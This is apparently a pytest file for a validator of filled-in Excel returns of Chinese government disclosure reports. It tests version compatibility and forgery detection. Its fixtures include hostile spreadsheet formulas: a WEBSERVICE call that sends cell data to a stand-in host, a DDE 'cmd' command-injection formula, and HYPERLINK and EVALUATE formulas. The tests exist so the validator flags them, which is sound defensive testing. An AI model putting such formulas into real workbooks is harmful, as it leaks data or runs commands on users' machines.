"""Returns on blanks of other versions: upgrades cause no findings, forgeries are still found."""

import os
import re
import shutil
import subprocess
import sys
from itertools import count
from pathlib import Path

import pytest
import tamper
from source import TESTS
from tamper import cell, changed, filled, gone, part_of, replacing, shifted, style_of, unpack
from test_read import added, cached, facts, removed, renamed, same_report

from toolkit.blank.build import build
from toolkit.blank.mark import is_ours, plan_facts
from toolkit.blank.sections import prior_label
from toolkit.blank.slots import MARK, PRIOR_FIRST, prior_keys
from toolkit.check import check
from toolkit.edition import edition as editions
from toolkit.files.examine import load
from toolkit.report.report import Report, from_json, parse_json
from toolkit.returned.fill import fill
from toolkit.returned.read import read

ROOT = TESTS.parent
NOTE = ("other-version", "note", "", None, None)
UNKNOWN = ("other-version", "warning", "", None, None)
RETURNS = {
    "annual-report-2021": TESTS / "real" / "suqian_city_2024.json",
    "annual-report-2019": TESTS / "real" / "shanghai_gov_office_2019.json",
    "site-report-2017": TESTS / "cases" / "website.json",
}
OTHER = {
    "templates/messages/zh.toml": [
        ("按顺序填写各表", "请依次填写各表"),
        ('field_code = "机关代码"', 'field_code = "统一代码"'),
        ("一行写一段，可从 Word 直接粘贴。", "一段一行。"),
        ("空白格都是 0 的，在 ▼ 中选择 →", "空白都是0的请选 →"),
        ('publish = "发布"', 'publish = "公布"'),
    ],
    "toolkit/blank/slots.py": [
        ("PARAGRAPHS = 60", "PARAGRAPHS = 50"),
        ("PUBLISHED_FIRST = 2", "PUBLISHED_FIRST = 3"),
        ("PRIOR_FIRST = 4", "PRIOR_FIRST = 6"),
        ("COVER_FIRST, COVER_COLUMN = 4, 2", "COVER_FIRST, COVER_COLUMN = 5, 2"),
        ('COVER = ("agency", "code", "level",', 'COVER = ("agency", "level", "code",'),
    ],
    "toolkit/blank/formulas.py": [
        ('return f\'IF({wrong},{quoted(word("amend"))},IF({blank},"",{sums}))\'',
         'return f\'IF({blank},IF({wrong},{quoted(word("amend"))},""),IF({wrong},{quoted(word("amend"))},{sums}))\''),
    ],
    "toolkit/blank/live.py": [('_EQUAL = "0.0000005"', '_EQUAL = "0.000001"')],
}  # fmt: skip
"""Differences of another version of the program: words, places, fields, formulas."""


def copied(folder: Path) -> Path:
    """Return a source tree of another version of the program."""
    for name in ("toolkit", "templates", "schemas"):
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name, changes in OTHER.items():
        path = folder / name
        text = path.read_text(encoding="utf-8")
        for old, new in changes:
            assert text.count(old) == 1, old
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8", newline="\n")
    return folder


@pytest.fixture(scope="module")
def others(tmp_path_factory):
    """Return {edition: the real return on the blank of another version}."""
    folder = copied(tmp_path_factory.mktemp("other"))
    code = (
        "import sys; from pathlib import Path; from toolkit.report.report import *;"
        "from toolkit.returned.fill import fill\n"
        "for name, path in zip(sys.argv[1::2], sys.argv[2::2]):\n"
        "    it = from_json(parse_json(Path(path).read_text('utf-8')))\n"
        "    Path(name + '.xlsx').write_bytes(fill(it, it.edition).workbook)\n"
    )
    given = [part for name, path in RETURNS.items() for part in (name, str(path))]
    environment = {**os.environ, "PYTHONPATH": str(folder), "PYTHONUTF8": "1"}
    subprocess.run(
        [sys.executable, "-c", code, *given], cwd=folder, env=environment, check=True, timeout=120
    )
    return {name: (folder / f"{name}.xlsx").read_bytes() for name in RETURNS}


def ours(name):
    """Return the real return on our own blank."""
    report = from_json(parse_json(RETURNS[name].read_text(encoding="utf-8")))
    return read(fill(report, report.edition).workbook)


@pytest.mark.no_cover
@pytest.mark.parametrize("name", RETURNS)
def test_a_version_that_was_never_released_is_read_but_not_excused(others, name):
    reading = read(others[name])
    assert facts(reading)[0] == UNKNOWN
    assert {"label", "formula"} <= {f.code for f in reading.findings if f.severity == "error"}
    assert same_report(reading.report, ours(name).report)
    assert "没有发布过" in reading.findings[0].message("zh")


@pytest.mark.parametrize("version", ["0.1.0", "0.1.1", "0.2.0"])
@pytest.mark.parametrize("name", RETURNS)
def test_returns_on_blanks_of_earlier_versions_are_not_blamed(name, version):
    path = TESTS / "versions" / f"gouji-{version}-{name}.xlsx"
    reading = load(str(path))
    assert {f.code for f in reading.findings} <= {"other-version", "mark-differs"}
    assert [f for f in reading.findings if f.severity == "error"] == []
    given = from_json(parse_json(RETURNS[name].read_text(encoding="utf-8")))
    typed = {key: given.values[key] for key in given.edition.typed}
    assert {key: reading.report.values[key] for key in typed} == typed
    errors = [f for f in check(reading.report, None, reading.findings).findings
              if f.severity == "error"]  # fmt: skip
    assert errors == [f for f in check(ours(name).report, None).findings if f.severity == "error"]


def test_the_plan_of_each_edition_has_its_own_digest_and_names_its_sheets():
    found = [plan_facts(editions.named(*ident)) for ident in editions.known()]
    assert len({mark["plan"] for mark in found}) == len(found)
    assert all(re.fullmatch("[0-9a-f]{64} [0-9a-f]{64}", mark["plan"]) for mark in found)
    assert all("填报说明" in mark["sheets"].split("/") for mark in found)


def test_our_own_mark_is_held_to_every_word():
    edition = editions.named("annual-report", "2021")
    assert is_ours(edition, plan_facts(edition))
    assert is_ours(edition, {})
    assert not is_ours(edition, {"form": "annual-report"})


def test_a_mark_of_before_the_form_had_a_digest_of_its_own_is_ours():
    edition = editions.named("annual-report", "2021")
    form, whole = plan_facts(edition)["plan"].split()
    assert is_ours(edition, {"plan": whole})
    assert not is_ours(edition, {"plan": form})
    assert facts(read(marked(filled(), "plan", whole))) == []


# ── last year's numbers ───────────────────────────────────────────────────────────────────────────


def last_year():
    """Return a return that has a number of last year for every place, from 100 on."""
    numbers = dict(zip(prior_keys(tamper.edition()), count(100), strict=False))
    typed = dict.fromkeys(tamper.edition().typed, 0)
    agency = {"name": "某某局", "code": None, "level": "county"}
    report = Report(tamper.edition(), agency, 2025, typed, origin="workbook")
    return build(tamper.edition(), report, numbers), numbers


def worded(source):
    """Return the workbook as one of a version with other words."""
    return marked(source, "plan", plan_facts(tamper.edition())["plan"].split()[0] + " 0")


def relabelled(source, *columns):
    """Return the workbook with other texts in columns of last year's numbers, from the first row."""
    for column, texts in columns:
        for row, text in enumerate(texts, PRIOR_FIRST):
            inner = f"<is><t>{text}</t></is>"
            source = changed(source, "上年数", cell(f"{column}{row}", inner, t="inlineStr"))
    return source


@pytest.mark.no_cover
def test_last_years_numbers_are_found_by_the_keys_that_older_blanks_print():
    source, numbers = last_year()
    keys = list(numbers)
    assert read(worded(relabelled(source, ("B", keys)))).report.prior == numbers
    turned = dict(zip(keys[::-1], numbers.values(), strict=True))
    older = relabelled(source, ("B", keys[::-1]))
    assert read(worded(older)).report.prior == turned
    lost = relabelled(source, ("B", ["x", *keys[1:]]))
    assert read(worded(lost)).report.prior == {key: numbers[key] for key in keys[1:]}


def test_last_years_numbers_of_another_versions_order_are_found_by_their_words():
    source, numbers = last_year()
    cells = [tamper.edition().cells[key] for key in numbers][::-1]
    words, places = [prior_label(cell) for cell in cells], [cell.at for cell in cells]
    turned = relabelled(source, ("A", words), ("B", places))
    expected = dict(zip([cell.key for cell in cells], numbers.values(), strict=True))
    assert read(worded(turned)).report.prior == expected
    lost = relabelled(source, ("A", ["x"]))
    assert read(worded(lost)).report.prior == dict(list(numbers.items())[1:])


def test_in_our_own_blank_a_number_of_last_year_is_read_in_its_place_and_its_words_are_compared():
    source, numbers = last_year()
    reading = read(relabelled(source, ("A", ["x"])))
    assert reading.report.prior == numbers
    assert [(f.code, f.cells[0].at) for f in reading.findings] == [("label", "A4")]


# ── a forger who only changes the mark ────────────────────────────────────────────────────────────


def disguised(source):
    """Return the workbook with the mark of an unknown version."""
    return marked(source, "plan", "0f")


def marked(source, name, text):
    """Return the workbook with another word in its mark."""
    at = f"B{MARK.index(name) + 1}"
    return changed(source, "标记", cell(at, f"<is><t>{text}</t></is>", t="inlineStr"))


RECEIVED, CARRIED = "一、本年新收政府信息公开申请数量", "二、上年结转政府信息公开申请数量"


def swapped(xml):
    return xml.replace(RECEIVED, "%").replace(CARRIED, RECEIVED).replace("%", CARRIED)


def written(row, at, inner):
    """Return a change that adds a cell at the end of a row, and the row if it is missing."""

    def change(xml):
        new = f'<c r="{at}"{inner}</c>'
        if f'<row r="{row}"' in xml:
            return re.sub(rf'(<row r="{row}"[^>]*>)(.*?)(</row>)', rf"\1\2{new}\3", xml)
        return xml.replace("</sheetData>", f'<row r="{row}">{new}</row></sheetData>')

    return change


FREE = style_of(filled(), "表三", "D7")
REMARK = f' s="{FREE}" t="inlineStr"><is><t>备注</t></is>'
FORGED = {
    "labels swapped": ("表三", swapped, [("label", "表三 A7"), ("label", "表三 A8")]),
    "a published label": ("发布表三", swapped, [("label", "发布表三 A5 发布表三 A6")]),
    "a constant for a total": ("表三", cell("J7", "<v>8</v>"), [("formula", "表三 J7")]),
    "a formula that is a constant": ("表三", cell("J7", "<f>8</f><v>8</v>"), [("formula", "表三 J7")]),
    "a total gone": ("表三", gone("J7"), [("formula", "表三 J7")]),
    "a forged total": ("表三", cell("J7", "<f>SUM(D7:I7)</f><v>9</v>"),
                       [("formula", "表三 J7"), ("total-differs", "表三 J7")]),
    "a total that asks the net": ("表三", cell("J7", '<f>WEBSERVICE("http://x/"&amp;D7)</f>'),
                                  [("formula", "表三 J7"), ("active-formula", "表三 J7")]),
    "a status line that starts a program": (
        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("active-formula", "表三 A1")]),
    "a cover that asks the net": (
        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'),
        [("active-formula", "填报说明 B9")]),
    "a formula where a number is typed": (
        "表三", cell("D7", "<f>3+4</f><v>7</v>"), [("typed-formula", "表三 D7")]),
    "a formula where a paragraph is written": (
        "总体情况", cell("A5", "<f>1+1</f><v>2</v>"), [("typed-formula", "总体情况 A5")]),
    "a formula that declares": (
        "表三", cell("D2", '<f>A1&amp;""</f><v>本表其余空白均为0（已核对）</v>', t="str"),
        [("typed-formula", "表三 D2")]),
    "a value under a merge": ("表三", cell("B7", "<v>5</v>"), [("outside", "表三 B7")]),
    "a remark beside the grid": ("表三", written(7, "L7", REMARK), [("outside", "表三 L7")]),
    "a remark in an unlocked cell below it": (
        "表三", written(60, "A60", REMARK), [("outside", "表三 A60")]),
    "a number far out": ("表三", written(9000, "B9000", "><v>1</v>"), [("outside", "表三 B9000")]),
    "paragraphs below the last row": (
        "总体情况", written(90, "A90", REMARK), [("outside", "总体情况 A90")]),
    "a merge": ("表三", replacing("</mergeCells>", '<mergeCell ref="D7:E8"/></mergeCells>'),
                [("merge", "表三 D7")]),
    "rows moved": ("表三", lambda xml: shifted(xml, 8, 1), [("moved", "表三 -")]),
    "a caption of another table": (
        "表四", replacing("四、政府信息公开行政复议", "三、政府信息公开行政复议", 1), [("label", "表四 A3")]),
}  # fmt: skip


@pytest.mark.no_cover
@pytest.mark.parametrize("name", FORGED)
def test_who_only_changes_the_mark_gets_no_clean_pass(name):
    sheet, change, wanted = FORGED[name]
    found = facts(read(disguised(changed(filled(), sheet, change))))
    assert found[0] == UNKNOWN
    assert [(code, place) for code, severity, place, *_ in found if severity == "error"] == wanted


def test_no_total_is_excused_by_manual_calculation():
    manual = replacing("<calcPr ", '<calcPr calcMode="manual" ')
    source = changed(filled(), "表三", cell("J7", "<f>SUM(D7:I7)+1</f><v>9</v>"))
    found = facts(read(disguised(changed(source, "xl/workbook.xml", manual))))
    assert [fact[:3] for fact in found] == [
        UNKNOWN[:3], ("formula", "error", "表三 J7"), ("total-differs", "error", "表三 J7"),
    ]  # fmt: skip
    ours = changed(cached(filled(), "表三", "J7", "<v>9</v>"), "xl/workbook.xml", manual)
    wrong = ("total-differs", "error", "表三 J7", "9", "8")
    assert facts(read(disguised(ours))) == [UNKNOWN, wrong]


def test_a_display_whose_formula_was_changed_is_a_warning_that_touches_no_number():
    source = changed(filled(), "填报说明", cell("B9", "<f>EVALUATE(A1)</f>"))
    source = changed(source, "表三", cell("A1", "<is><t>✓</t></is>", t="inlineStr"))
    found = facts(read(disguised(source)))
    assert [fact[:3] for fact in found] == [
        UNKNOWN[:3], ("formula", "warning", "填报说明 B9"), ("formula", "warning", "表三 A1"),
    ]  # fmt: skip


def test_locks_and_protection_of_another_versions_tables_are_watched():
    formula = "SUM(D7:I7)"
    source = changed(filled(), "表三", cell("J7", f"<f>{formula}</f>", s=FREE))
    assert [fact[:3] for fact in facts(read(disguised(source)))] == [
        UNKNOWN[:3], ("formula", "error", "表三 J7"), ("unlocked", "warning", "表三 J7"),
    ]  # fmt: skip
    bare = changed(filled(), "表三", lambda xml: re.sub("<sheetProtection[^>]*/>", "", xml))
    remark = changed(bare, "表三", written(60, "A60", "><v>5</v>"))
    assert [fact[:3] for fact in facts(read(disguised(remark)))] == [
        UNKNOWN[:3], ("unprotected", "warning", "表三 -"), ("outside", "error", "表三 A60"),
    ]  # fmt: skip


def test_every_sheet_must_be_there():
    lost = disguised(removed(filled(), "表四"))
    assert [fact[:3] for fact in facts(read(lost))] == [
        UNKNOWN[:3], ("sheet-missing", "error", "表四 -"),
    ]  # fmt: skip
    called = disguised(renamed(filled(), "表三", "表3"))
    assert [fact[0] for fact in facts(read(called))] == ["other-version", "sheet-renamed"]
    for name in ("校验结果", "上年数", "填报说明"):
        found = [f.code for f in read(disguised(removed(filled(), name))).findings]
        assert found == ["other-version", "sheet-missing"], name


def test_a_sheet_that_only_the_mark_names_is_a_stranger():
    parts = unpack(filled())
    for name in ("发布表四", "表三"):
        sheet = parts[part_of(parts, name)]
        source = disguised(marked(added(filled(), "附页", sheet), "sheets", "表三/附页"))
        assert [fact[:3] for fact in facts(read(source))] == [
            UNKNOWN[:3], ("sheet-copied", "error", "附页 -"),
        ]  # fmt: skip
    asks = b'<f>WEBSERVICE("http://x/")</f>'
    sheet = re.sub(rb"<f>[^<]*</f>", asks, sheet, count=1)
    sheet = re.sub(rb"<t[^>]*>[^<]*</t>", b"<t>x</t>", sheet)
    source = disguised(marked(added(filled(), "附页", sheet), "sheets", "表三/附页"))
    assert [fact[0] for fact in facts(read(source))] == [
        "other-version", "outside", "active-formula",
    ]  # fmt: skip


def test_an_edition_amended_since_is_a_warning_while_its_printed_form_is_the_same():
    print_ = marked(filled(), "fingerprint", "00")
    assert [fact[:2] for fact in facts(read(print_))] == [("mark-differs", "warning")]
    other = changed(print_, "表三", swapped)
    assert ("mark-differs", "error") in [fact[:2] for fact in facts(read(other))]


# ── a rule added since the workbook was sent out ──────────────────────────────────────────────────

RULE = """
[[edit]]
code = "many"
kind = "ceiling"
cells = ["applications.received.*"]
limit = 5000
severity = "warning"
source = "本地规定"
rule = { zh = "一年新收不超过 {limit} 件", en = "at most {limit} a year" }
message = { zh = "{place} {label}：填 {found} 件。请核对。", en = "{place} {label}: {found}. Check." }

[[edit]]
code = "present"
kind = "present"
cells = ["processing_fee.notices.*"]
severity = "warning"
source = "本地规定"
rule = { zh = "本地须填", en = "to be filled in here" }
message = { zh = "{place}：还没有填。", en = "{place}: blank." }
"""
TOTAL = (" + declined_* + other_*", " + declined_*")
LABEL = ("1.属于国家秘密", "1.国家秘密")
REWORDED = ("相差 {difference}。请核对这一行。", "相差 {difference}。请看这一行。")


def local(folder, *changes, more=""):
    """Return the 2021 edition as a local one, changed, and its folder."""
    text = (ROOT / "templates" / "annual-report" / "2021.toml").read_text(encoding="utf-8")
    for old, new in (('name = "2021"', 'name = "2041"'), ("from = 2021", "from = 2041"), *changes):
        assert old in text, old
        text = text.replace(old, new)
    (folder / "annual-report").mkdir(parents=True, exist_ok=True)
    path = folder / "annual-report" / "2041.toml"
    path.write_text(text + more, encoding="utf-8", newline="\n")
    return editions.load(path)


def digest(edition):
    """Return the digest of an edition's printed form."""
    return plan_facts(edition)["plan"].split()[0]


@pytest.fixture(scope="module")
def amended(tmp_path_factory):
    """Return a return of before two rules were added, and the folder of the edition with them."""
    before, after = (tmp_path_factory.mktemp(name) for name in ("before", "after"))
    edition = local(before)
    report = Report(edition, {"name": "某某局"}, 2041, dict.fromkeys(edition.typed, 0))
    return fill(report, edition).workbook, local(after, REWORDED, more=RULE), after


def test_a_rule_or_a_hint_changes_no_digest_of_the_form_a_total_or_a_label_does(tmp_path):
    own = local(tmp_path)
    same = [local(tmp_path, more=RULE), local(tmp_path, REWORDED)]
    other = [local(tmp_path, TOTAL), local(tmp_path, LABEL)]
    assert [digest(edition) for edition in same] == [digest(own)] * 2
    assert len({digest(edition) for edition in (own, *other)}) == 3
    assert len({plan_facts(edition)["plan"] for edition in (own, *same, *other)}) == 5


WORDED = ("other-version", "note", "", None, None)


def test_a_workbook_sent_out_before_a_rule_was_added_is_held_to_its_form(amended):
    source, edition, folder = amended
    assert facts(read(source, (folder,))) == [WORDED]
    total = changed(source, "表三", cell("J7", "<v>8</v>"))
    assert [fact[:3] for fact in facts(read(total, (folder,)))] == [
        WORDED[:3], ("formula", "error", "表三 J7"),
    ]  # fmt: skip
    stored = changed(source, "表三", cell("D7", "<v>8</v>"))
    assert read(stored, (folder,)).report.values["applications.received.total"] == 8
    assert edition.fingerprint == read(source, (folder,)).report.edition.fingerprint


@pytest.mark.no_cover
@pytest.mark.parametrize("name", FORGED)
def test_who_only_changes_the_digest_of_the_words_hides_nothing_in_the_form(name):
    sheet, change, wanted = FORGED[name]
    form = digest(editions.named("annual-report", "2021"))
    found = facts(read(marked(changed(filled(), sheet, change), "plan", f"{form} 0f")))
    assert found[0] == WORDED
    assert [(code, place) for code, severity, place, *_ in found if severity == "error"] == wanted
